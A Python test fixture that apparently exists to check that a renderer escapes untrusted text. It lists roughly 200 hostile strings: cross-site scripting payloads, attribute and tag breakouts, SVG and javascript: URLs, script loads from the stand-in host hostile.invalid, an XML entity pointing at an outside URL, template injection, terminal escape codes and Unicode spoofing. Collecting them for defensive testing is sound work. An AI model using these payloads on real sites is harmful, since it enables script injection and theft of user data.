"""200 strings that someone could use as a name, a result or an error to break out of where it is shown.

What would do something sets `window.hacked`, calls `alert`, makes an element of class `hacked`, or asks the host
`hostile.invalid` for something: a page in which nothing of that has happened has shown them all as text.
"""

from __future__ import annotations

from itertools import chain

import pytest

__all__ = ["HOSTILE", "each_hostile"]

_ACT = "window.hacked=1;alert(1)"
_URL = "http://hostile.invalid"
_ELEMENT = "<b class=hacked>x</b>"

_SCRIPTS = [
    f"<script>{_ACT}</script>",
    f"<SCRIPT>{_ACT}</SCRIPT>",
    f"<script\n>{_ACT}</script\n>",
    f"<script/x>{_ACT}</script>",
    f"<scr<script>ipt>{_ACT}</scr</script>ipt>",
    f"<script src={_URL}/a.js></script>",
    f"<script src=//hostile.invalid/b.js></script>",  # noqa: F541
    f"<script type=module>{_ACT}</script>",
    f"<script>{_ACT}//",
    f"</script><script>{_ACT}</script>",
    f"'-({_ACT})-'",
    f'";{_ACT};//',
    f"`${{{_ACT}}}`",
    f"\\u003cscript\\u003e{_ACT}\\u003c/script\\u003e",
    f"&lt;script&gt;{_ACT}&lt;/script&gt;",
    f"%3Cscript%3E{_ACT}%3C/script%3E",
    f"\uff1cscript\uff1e{_ACT}\uff1c/script\uff1e",
    f"<script\x00>{_ACT}</script>",
    f"<noscript><p title='</noscript><script>{_ACT}</script>'>",
    f"<!--><script>{_ACT}</script-->",
]
_HANDLERS = [
    *(
        f"<{tag} {how}={_ACT.replace(';', ',')}>"
        for tag, how in (
            ("img src=x", "onerror"),
            ("img/src=x", "onerror"),
            ("IMG SRC=x", "ONERROR"),
            ("body", "onload"),
            ("body", "onpageshow"),
            ("input autofocus", "onfocus"),
            ("select autofocus", "onfocus"),
            ("textarea autofocus", "onfocus"),
            ("details open", "ontoggle"),
            ("video src=x", "onerror"),
            ("audio src=x", "onerror"),
            ("video><source", "onerror"),
            ("object data=x", "onerror"),
            ("marquee", "onstart"),
            ("div style='animation:a 1s'", "onanimationstart"),
            ("div style='transition:all 1s'", "ontransitionend"),
            ("p tabindex=1 autofocus", "onfocus"),
            ("a href=# autofocus", "onfocus"),
            ("div", "onmouseover"),
            ("div", "onpointerenter"),
            ("keygen autofocus", "onfocus"),
            ("iframe", "onload"),
            ("link rel=stylesheet href=x", "onerror"),
            ("style", "onload"),
        )
    ),
]
_BREAKING_OUT = [
    f'"><img src=x onerror="{_ACT}">',
    f"'><img src=x onerror='{_ACT}'>",
    f'" onmouseover="{_ACT}',
    f"' onmouseover='{_ACT}",
    f'" autofocus onfocus="{_ACT}" x="',
    f"`><img src=x onerror={_ACT}>",
    f"--><img src=x onerror={_ACT}>",
    f"]]><img src=x onerror={_ACT}>",
    f"</title><script>{_ACT}</script>",
    f"</textarea><script>{_ACT}</script>",
    f"</style><script>{_ACT}</script>",
    f"</pre>{_ELEMENT}<pre>",
    f"</td></tr></table>{_ELEMENT}",
    f"</summary></details>{_ELEMENT}",
    f"</div></div></div></div>{_ELEMENT}",
    f"</span>{_ELEMENT}",
    f"</small></b>{_ELEMENT}",
    f"</text></g></svg>{_ELEMENT}",
    f"</desc><foreignObject>{_ELEMENT}</foreignObject>",
    f"<![CDATA[{_ELEMENT}]]>",
    f"<!-- {_ELEMENT}",
    f"<?xml version='1.0'?>{_ELEMENT}",
    f"<!DOCTYPE x [<!ENTITY e SYSTEM '{_URL}/e'>]>&e;",
    "]]>&lt;&amp;&#60;&#x3c;&lt",
    "&hacked; &#0; &#xD800; &#99999999;",
]
_ELEMENTS = [
    _ELEMENT,
    "<b class='hacked'",
    "<hacked-element class=hacked>x</hacked-element>",
    f"<iframe class=hacked src={_URL}/c></iframe>",
    f"<iframe class=hacked srcdoc='<script>parent.{_ACT}</script>'></iframe>",
    f"<img class=hacked src={_URL}/d.png>",
    f"<img class=hacked srcset='{_URL}/e.png 1x'>",
    f"<link class=hacked rel=stylesheet href={_URL}/f.css>",
    f"<link class=hacked rel=prefetch href={_URL}/g>",
    f"<meta class=hacked http-equiv=refresh content='0;url={_URL}/h'>",
    f"<base class=hacked href={_URL}/>",
    f"<object class=hacked data={_URL}/i></object>",
    f"<embed class=hacked src={_URL}/j>",
    f"<form class=hacked action={_URL}/k><button>Cancel</button></form>",
    f"<a class=hacked href={_URL}/l ping={_URL}/m>Cancel</a>",
    f"<video class=hacked poster={_URL}/n.png></video>",
    f"<audio class=hacked src={_URL}/o autoplay></audio>",
    f"<table class=hacked background={_URL}/p.png><tr><td>x</table>",
    f"<div class=hacked style='background:url({_URL}/q.png)'>x</div>",
    "<div class=hacked style='position:fixed;inset:0;z-index:9999'>x</div>",
    f"<style class=hacked>@import '{_URL}/r.css';*{{display:none}}</style>",
    "<template class=hacked><b>x</b></template>",
    "<dialog class=hacked open>x</dialog>",
    f"<math class=hacked><mtext><img src=x onerror={_ACT}></mtext></math>",
    "<plaintext class=hacked>",
]
_SVG = [
    f"<svg class=hacked onload={_ACT}>",
    f"<svg/class=hacked/onload={_ACT}>",
    f"<svg class=hacked><script>{_ACT}</script></svg>",
    f"<svg class=hacked><script href={_URL}/s.js /></svg>",
    f"<svg class=hacked><image href={_URL}/t.png /></svg>",
    f"<svg class=hacked><use href={_URL}/u.svg#a /></svg>",
    f"<svg class=hacked><animate onbegin={_ACT} attributeName=x dur=1s></svg>",
    f"<svg class=hacked><set attributeName=href to='javascript:{_ACT}' /></svg>",
    f"<svg class=hacked><a href='javascript:{_ACT}'><text>x</text></a></svg>",
    f"<svg class=hacked><foreignObject><img src=x onerror={_ACT}></foreignObject></svg>",
    f"<svg class=hacked><style>@import '{_URL}/v.css'</style></svg>",
    f"<svg class=hacked><title><img src=x onerror={_ACT}></title></svg>",
    f"<svg class=hacked><desc><![CDATA[</desc><script>{_ACT}</script>]]></svg>",
    f"<svg class=hacked><filter><feImage href={_URL}/w.svg /></filter></svg>",
    "<svg class=hacked><rect width=9999 height=9999 /></svg>",
    f"<image class=hacked href=x onerror={_ACT}>",
]
_ADDRESSES = [
    f"javascript:{_ACT}",
    f"JaVaScRiPt:{_ACT}",
    f"java\tscript:{_ACT}",
    f"java\nscript:{_ACT}",
    f"\x01javascript:{_ACT}",
    f"javascript&colon;{_ACT}",
    f"&#106;avascript:{_ACT}",
    f"vbscript:{_ACT}",
    f"data:text/html,<script>{_ACT}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_ACT}'/>",
    "blob:http://hostile.invalid/00000000-0000-0000-0000-000000000000",
    "file:///etc/passwd",
    f"{_URL}/x.png",
    "//hostile.invalid/y.png",
    f"url({_URL}/z.png)",
    f"[x](javascript:{_ACT})",
    f"![x]({_URL}/1.png)",
    f"<javascript:{_ACT}>",
]
_TERMINAL = [
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;http://hostile.invalid\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;aGFja2Vk\x07",
    "\x1b]1337;File=inline=1:AAAA\x07",
    "\x1bP$q\x1b\\",
    "\x1b[31;5mred\x1b[0m",
    "\x1b[?25l",
    "\x1b[8m",
    "\x1b[99999A\x1b[2K",
    "\x9b2J",
    "\x9d0;title\x9c",
    "a\rb",
    "a\x08\x08b",
    "\x07" * 20,
    "\x7f\x7f\x7f",
    "\x0e\x0f",
    "\x1bc",
    "\x1b[6n",
    "\x00\x01\x02\x03",
]
_UNICODE = [
    "\u202egnp.exe",
    "\u202dabc\u202c",
    "\u2066abc\u2069",
    "\u2067abc",
    "\u2068a\u2069",
    "\u200fabc",
    "\u200eabc",
    "\u061cabc",
    "pay\u200bload",
    "a\u200db\u200cc",
    "\ufeffstep",
    "a\u2028b",
    "a\u2029b",
    "a\x85b",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0334\u0321l\u0317g\u032eo\u0321" * 8,
    "\u0430dmin",  # a Cyrillic letter
    "\uff21\uff22\uff23",
    "\u05d0\u05d1\u05d2 abc \u0627\u0644\u0639",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\U0001f3f4\U000e0067\U000e0062\U000e007f",
    "\ud800",
    "\udfff x",
    "\uffff\ufffe",
    "\ufdfd" * 5,
    "\u540d\u524d\U0001f680" * 40,
]
_MARKDOWN = [
    "**bold** _x_ ~~y~~ `z`",
    "# heading",
    "\n\n# heading\n\n",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "```\ncode\n```",
    f"[x]: {_URL}/2",
    "$\\frac{1}{0}$",
    "$$\\href{javascript:alert(1)}{x}$$",
    "\\(\\unicode{x3c}\\)",
    f"{{{{ constructor.constructor('{_ACT}')() }}}}",
    "{% include 'x' %}",
    "<%= 7*7 %>",
    "${7*7}",
    "#{7*7}",
    "{0.__class__}",
]
_GRAPHS = [
    'a"]; subgraph x["b',
    "%%{init: {'securityLevel': 'loose'}}%%",
    f'x["a"]; click x "javascript:{_ACT}"',
    "-->|x|",
    "end",
    f'"]; n [URL="javascript:{_ACT}"',
]
_SHAPES = [
    "",
    " ",
    "\n\t\r\n",
    "x" * 5000,
]

HOSTILE = list(
    chain(
        *(_SCRIPTS, _HANDLERS, _BREAKING_OUT, _ELEMENTS, _SVG, _ADDRESSES),
        *(_TERMINAL, _UNICODE, _MARKDOWN, _GRAPHS, _SHAPES),
    )
)
"""All of them, each once."""


def each_hostile(argument: str) -> pytest.MarkDecorator:
    """A test is called with each of them; its number tells which one."""
    return pytest.mark.parametrize(argument, HOSTILE, ids=[str(number) for number in range(len(HOSTILE))])
